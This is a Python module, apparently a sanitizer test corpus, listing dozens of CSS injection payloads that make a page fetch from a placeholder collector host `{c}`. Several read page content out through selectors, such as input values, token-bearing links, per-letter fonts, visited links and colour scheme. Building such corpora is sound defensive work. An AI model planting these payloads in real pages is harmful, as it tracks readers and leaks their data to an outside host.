"""Style sheets that fetch where nothing stops them: beacons, and readers of what stands on the page.

For `{c}` and the rest see `hostile_vectors`. All are well-formed. Each has a class of its own, `s{n}`.
"""

STYLES = {
    "style attribute": "<p style='background:url({c}/a.png)'>x</p>",
    "style attribute with escapes": r"<p style='background:u\72l({c}/a.png)'>x</p>",
    "style attribute with comments": "<p style='background/**/:/**/url({c}/a.png)/**/;'>x</p>",
    "style attribute with entities": "<p style='background&colon;url&lpar;{c}/a.png)'>x</p>",
    "style attribute with a variable": r"<p style='--a:u\72l({c}/a.png);background:var(--a)'>x</p>",
    "style attribute with a fallback": "<p style='background:var(--none,url({c}/a.png))'>x</p>",
    "style attribute of no scheme": "<p style='background:url(//{h}/a.png)'>x</p>",
    "style attribute in capitals": "<p style='BACKGROUND:URL({c}/a.png)'>x</p>",
    "style attribute with a line end": "<p style='background:url(\n{c}/a.png\n)'>x</p>",
    "style attribute that never ends": "<p style='background:url(\"{c}/a.png'>x</p>",
    "style attribute with an important one": "<p style='background:url({c}/a.png)!important;'>x</p>",
    "image-set function": "<p style='background-image:image-set(\"{c}/a.png\" 1x)'>x</p>",
    "image-set function of a vendor": "<p style='background-image:-webkit-image-set(url({c}/a.png) 1x)'>x</p>",
    "cross-fade": (
        "<p style='background:-webkit-cross-fade(url({c}/a.png),url({c}/b.png),50%)'>x</p>"
        "<p style='background:cross-fade(url({c}/c.png),red)'>x</p>"
    ),
    "image, src and element functions": (
        "<p style='background:image(\"{c}/a.png\")'>x</p><p style='background:src(\"{c}/b.png\")'>x</p>"
        "<p style='background:element(#x),-moz-element(#x)'>x</p>"
    ),
    "many backgrounds": "<p style='background:linear-gradient(red,red),url({c}/a.png),url({c}/b.png)'>x</p>",
    "border image": "<p style='border:9px solid;border-image:url({c}/a.png) 30'>x</p>",
    "mask": (
        "<p style='mask:url({c}/a.svg#m);-webkit-mask-image:url({c}/b.png);mask-border:url({c}/c.png) 30'>x</p>"
    ),
    "filter and clip": (
        "<p style='filter:url({c}/a.svg#f);clip-path:url({c}/c.svg#c);backdrop-filter:url({c}/d.svg#f)'>x</p>"
    ),
    "shape": "<p style='float:left;shape-outside:url({c}/a.png)'>x</p>",
    "reflection": "<p style='-webkit-box-reflect:below 0 url({c}/a.png)'>x</p>",
    "offset path": "<p style='offset-path:url({c}/a.svg#p)'>x</p>",
    "list style": (
        "<ul><li style='list-style-image:url({c}/a.png)'>x</li><li style='list-style:url({c}/b.png)'>x</li></ul>"
    ),
    "cursor": "<p style='cursor:url({c}/a.cur),auto'>x</p>",
    "content of an element": "<p style='content:url({c}/a.png)'>x</p>",
    "content of what stands before": "<style>.s{n}::before{content:url({c}/a.png)}</style><p class=s{n}>x</p>",
    "content with an alternative": "<style>.s{n}::after{content:url({c}/a.png)/'x'}</style><p class=s{n}>x</p>",
    "first line and letter": (
        "<style>.s{n}::first-line{background:url({c}/a.png)}.s{n}::first-letter{background:url({c}/b.png)}</style>"
        "<p class=s{n}>x</p>"
    ),
    "marker": "<style>.s{n}::marker{content:url({c}/a.png)}</style><ul><li class=s{n}>x</li></ul>",
    "scroll bar": (
        "<style>.s{n}::-webkit-scrollbar{background:url({c}/a.png);width:9px}</style>"
        "<div class=s{n} style='height:9px;overflow:scroll'>x<br>x<br>x</div>"
    ),
    "style sheet": "<style>.s{n}{background:url({c}/a.png)}</style><p class=s{n}>x</p>",
    "style sheet of another type": (
        "<style type='text/css' media=all>.s{n}{background:url({c}/a.png)}</style><p class=s{n}>x</p>"
    ),
    "style sheet in a comment": "<style><!-- .s{n}{background:url({c}/a.png)} --></style><p class=s{n}>x</p>",
    "style sheet of variables": (
        "<style>:root{--s{n}:url({c}/a.png)}.s{n}{background:var(--s{n})}</style><p class=s{n}>x</p>"
    ),
    "style sheet of variables put together": (
        "<style>.s{n}{--a:url({c}/a.png);--b:var(--a) no-repeat;background:var(--c,var(--b))}</style>"
        "<p class=s{n}>x</p>"
    ),
    "attribute function": (
        "<style>.s{n}{background:attr(data-u type(<url>))}</style><p class=s{n} data-u='{c}/a.png'>x</p>"
    ),
    "function of its own": (
        "<style>@function --s{n}(){result:url({c}/a.png)}.s{n}{background:--s{n}()}</style><p class=s{n}>x</p>"
    ),
    "condition in a value": "<style>.s{n}{background:if(else:url({c}/a.png))}</style><p class=s{n}>x</p>",
    "nested rule": (
        "<style>@media all{div{& .s{n}{background:url({c}/a.png)}}}</style><div><p class=s{n}>x</p></div>"
    ),
    "deeply nested rule": "<style>.s{n}{&{&{&{@media all{background:url({c}/a.png)}}}}}</style><p class=s{n}>x</p>",
    "layer": "<style>@layer a{.s{n}{background:url({c}/a.png)}}</style><p class=s{n}>x</p>",
    "container": (
        "<style>.c{n}{container-type:inline-size}@container (min-width:1px){.s{n}"
        "{background:url({c}/a.png)}}</style>"
        "<div class=c{n}><p class=s{n}>x</p></div>"
    ),
    "scope": "<style>@scope (div){.s{n}{background:url({c}/a.png)}}</style><div><p class=s{n}>x</p></div>",
    "starting style": (
        "<style>@starting-style{.s{n}{background:url({c}/a.png)}}.s{n}{transition:all 1s}</style>"
        "<p class=s{n}>x</p>"
    ),
    "support": "<style>@supports (display:block){.s{n}{background:url({c}/a.png)}}</style><p class=s{n}>x</p>",
    "property": (
        "<style>@property --s{n}{syntax:'<image>';inherits:false;initial-value:url({c}/a.png)}"
        ".s{n}{background:var(--s{n})}</style><p class=s{n}>x</p>"
    ),
    "namespace": "<style>@namespace x url({c}/a);@namespace url({c}/b);.s{n}{color:red}</style><p class=s{n}>x</p>",
    "key frames": (
        "<style>@keyframes k{n}{0%,to{background:url({c}/a.png)}}.s{n}{animation:k{n} 1s}</style>"
        "<p class=s{n}>x</p>"
    ),
    "counter style": (
        "<style>@counter-style k{n}{system:cyclic;symbols:url({c}/a.png)}.s{n}{list-style:k{n}}</style>"
        "<ul><li class=s{n}>x</ul>"
    ),
    "page": "<style>@page{background:url({c}/a.png);@top-left{content:url({c}/b.png)}}</style>",
    "view transition": (
        "<style>@view-transition{navigation:auto}::view-transition{background:url({c}/a.png)}</style>"
    ),
    "imported style sheet": "<style>@import '{c}/a.css';@import url({c}/b.css);</style>",
    "imported style sheet with conditions": (
        "<style>@import url('{c}/a.css') layer(x) supports(display:grid) screen;</style>"
    ),
    "imported style sheet with escapes": r"<style>@\69mport '{c}/a.css';@IMPORT u\72l({c}/b.css);</style>",
    "imported style sheet in a layer": "<style>@layer a;@import '{c}/a.css' layer(a);</style>",
    "font": (
        "<style>@font-face{font-family:f{n};src:url({c}/a.woff)}.s{n}{font-family:f{n}}</style><p class=s{n}>x</p>"
    ),
    "font for one letter": (
        "<style>@font-face{font-family:f{n};src:url({c}/a.woff2);unicode-range:U+0078}"
        "@font-face{font-family:f{n};src:local(x),url({c}/b.woff2);unicode-range:U+0079}"
        ".s{n}{font-family:f{n}}</style><p class=s{n}>x</p>"
    ),
    "palette of a font": (
        "<style>@font-palette-values --p{n}{font-family:f{n};base-palette:1}"
        "@font-face{font-family:f{n};src:url({c}/a.woff2) format('woff2') tech(color-COLRv1)}"
        ".s{n}{font-family:f{n};font-palette:--p{n}}</style><p class=s{n}>x</p>"
    ),
    "attribute read out by selectors": (
        "<style>.s{n}[title^=a]{background:url({c}/a.png)}.s{n}[title$=c]{border-image:url({c}/c.png)}</style>"
        "<p class=s{n} title=abc>x</p>"
    ),
    "value read out by selectors": (
        "<style>input[value^=a].s{n}{background:url({c}/a.png)}</style>"
        "<input type=hidden><input class=s{n} value=abc>"
    ),
    "relation read out by selectors": (
        "<style>body:has(a[href*=token]) .s{n}{background:url({c}/a.png)}</style>"
        "<a href='https://x.example/token'>x</a><p class=s{n}>x</p>"
    ),
    "link that was visited": (
        "<style>a.s{n}:link,a.s{n}:visited{background:url({c}/a.png)}</style><a class=s{n} href='#'>x</a>"
    ),
    "hover and focus": (
        "<style>html:hover .s{n},.s{n}:not(:hover){background:url({c}/a.png)}</style><p class=s{n}>x</p>"
    ),
    "width of the window": (
        "<style>@media (min-width:1px){.s{n}{background:url({c}/a.png)}}</style><p class=s{n}>x</p>"
    ),
    "theme of the reader": (
        "<style>@media (prefers-color-scheme:light){.s{n}{background:url({c}/light)}}"
        "@media (prefers-color-scheme:dark){.s{n}{background:url({c}/dark)}}</style><p class=s{n}>x</p>"
    ),
    "cover over all": (
        "<style>.s{n}{position:fixed;inset:-999px;z-index:2147483647;background:url({c}/a.png)}</style>"
        "<div class=s{n}>x</div>"
    ),
    "style of svg": "<svg style='background:url({c}/a.png)'><rect style='fill:url({c}/b.svg#x)'></rect></svg>",
    "style of a hidden element": (
        "<style>.s{n}{display:block;background:url({c}/a.png)}</style>"
        "<title class=s{n}>x</title><p class=s{n}>x</p>"
    ),
}
